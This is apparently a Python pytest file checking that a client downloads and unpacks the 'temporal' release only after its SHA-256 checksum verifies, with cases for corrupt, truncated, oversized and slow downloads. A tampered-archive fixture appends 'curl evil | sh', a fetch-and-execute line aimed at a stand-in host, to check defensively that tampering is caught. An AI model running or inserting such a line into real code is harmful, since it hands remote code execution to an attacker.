"""The release archive of the `temporal` command is used only after its checksum was verified."""

import asyncio
import io
import tarfile
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from hashlib import sha256
from pathlib import Path
from typing import NoReturn

import pytest

from orga.client.server import obtain
from orga.client.server.obtain import ObtainFailed, download_release, locate
from tests.support.web.raw import answer, raw_http

COMMAND = b"#!/bin/sh\necho temporal\n"


def an_archive(**members: bytes) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, content in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return packed.getvalue()


ARCHIVE = an_archive(LICENSE=b"MIT", temporal=COMMAND)


def silent(line: str) -> None:
    """Ignore the line."""


@asynccontextmanager
async def published(monkeypatch: pytest.MonkeyPatch, served: bytes, archive: bytes = ARCHIVE) -> AsyncGenerator[None]:
    """Serve these bytes at the address of the archive for this machine."""
    monkeypatch.setattr("platform.system", lambda: "Linux")
    monkeypatch.setattr("platform.machine", lambda: "x86_64")
    monkeypatch.setitem(obtain.ARCHIVES, ("Linux", "x86_64"), ("a", sha256(archive).hexdigest()))
    async with raw_http({"a.tar.gz": served}) as (url, _):
        monkeypatch.setattr(obtain, "ADDRESS", f"{url}/")
        yield


async def test_the_command_of_a_release_is_unpacked_and_executable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reported: list[str] = []
    async with published(monkeypatch, answer("200 OK", ARCHIVE)):
        await download_release(tmp_path / "temporal", reported.append)
    assert (tmp_path / "temporal").read_bytes() == COMMAND
    assert (tmp_path / "temporal").stat().st_mode & 0o111
    assert [path.name for path in tmp_path.iterdir()] == ["temporal"]
    assert reported == ["downloading the Temporal server, once… 0:00"]


OTHER = an_archive(temporal=COMMAND + b"curl evil | sh\n")
CUT = answer("200 OK", ARCHIVE)[:-9]


@pytest.mark.parametrize(
    ("served", "archive", "cause"),
    [
        pytest.param(answer("200 OK", OTHER), ARCHIVE, "what came is not release .*: its SHA-256 is", id="another one"),
        pytest.param(answer("200 OK", ARCHIVE + b"\0"), ARCHIVE, "what came is not release", id="one byte more"),
        pytest.param(answer("404 Not Found"), ARCHIVE, "404 Not Found", id="not found"),
        pytest.param(CUT, ARCHIVE, "peer closed connection", id="an incomplete download"),
        pytest.param(answer("200 OK", b"x" * 2_001), ARCHIVE, "more than 2,000 bytes", id="too many bytes"),
        pytest.param(answer("200 OK", an_archive(a=b"")), an_archive(a=b""), "holds no `temporal`", id="no command"),
    ],
)
async def test_any_other_download_is_discarded(
    served: bytes, archive: bytes, cause: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(obtain, "MAX_BYTES", 2_000)
    async with published(monkeypatch, served, archive):
        with pytest.raises(ObtainFailed, match=f"its download failed: .*{cause}"):
            await download_release(tmp_path / "temporal", silent)
    assert list(tmp_path.iterdir()) == []


async def test_a_machine_without_a_release_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("platform.machine", lambda: "riscv64")
    with pytest.raises(ObtainFailed, match=r"release .* has none for \w+ riscv64"):
        await download_release(tmp_path / "temporal", silent)


async def test_a_silent_server_times_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async def says_nothing(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read()
        writer.close()

    monkeypatch.setattr(obtain, "SILENCE_S", 0.1)
    async with published(monkeypatch, b""), await asyncio.start_server(says_nothing, "127.0.0.1", 0) as server:
        monkeypatch.setattr(obtain, "ADDRESS", f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/")
        with pytest.raises(ObtainFailed, match="its download failed: ReadTimeout"):
            await download_release(tmp_path / "temporal", silent)


async def test_a_download_that_takes_too_long_is_cancelled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async def for_ever(folder: Path) -> NoReturn:
        await asyncio.Event().wait()
        raise AssertionError

    monkeypatch.setattr(obtain, "unpacked_release", for_ever)
    monkeypatch.setattr(obtain, "DOWNLOAD_TIMEOUT_S", 0.1)
    with pytest.raises(ObtainFailed, match=r"its download failed: not done after 0\.1 s"):
        await download_release(tmp_path / "temporal", silent)


async def test_a_wrong_checksum_is_reported_although_the_build_works(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    go = tmp_path / "path" / "go"
    go.parent.mkdir()
    go.write_text('#!/bin/sh\necho "#!/bin/sh" > "$GOBIN/temporal"\n')
    go.chmod(0o755)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("PATH", str(go.parent))
    monkeypatch.delenv("ORGA_TEMPORAL_CLI", raising=False)
    reported: list[str] = []
    async with published(monkeypatch, answer("200 OK", OTHER)):
        found = await locate(reported.append)
    assert found.read_bytes() == b"#!/bin/sh\n"
    assert any("the Temporal server: its download failed: what came is not release" in line for line in reported)
